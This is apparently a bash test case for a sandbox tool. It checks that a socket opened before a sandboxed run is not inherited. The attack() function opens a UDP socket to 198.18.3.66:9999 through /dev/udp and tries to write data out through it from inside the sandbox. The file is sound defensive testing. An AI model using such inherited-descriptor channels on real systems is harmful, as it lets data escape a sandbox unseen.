# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A socket made before the run, inherited'
origin='RESEARCH §2.76; nft_socket.c'
reason='silent: inherited sockets are closed'
forms=run verdict=closed
attack() {
    local command=(sh -c 'echo "$0" >&5' "$1")
    [ "$FORM" != run ] || command=(env SUDO_UID=65534 SUDO_GID=65534 "$SLUICE" run -p "$T/run.yaml" --profile test --events "$T/events" -- "${command[@]}")
    h c bash -c 'exec 5<> /dev/udp/198.18.3.66/9999 && "$@"' bash "${command[@]}"
}
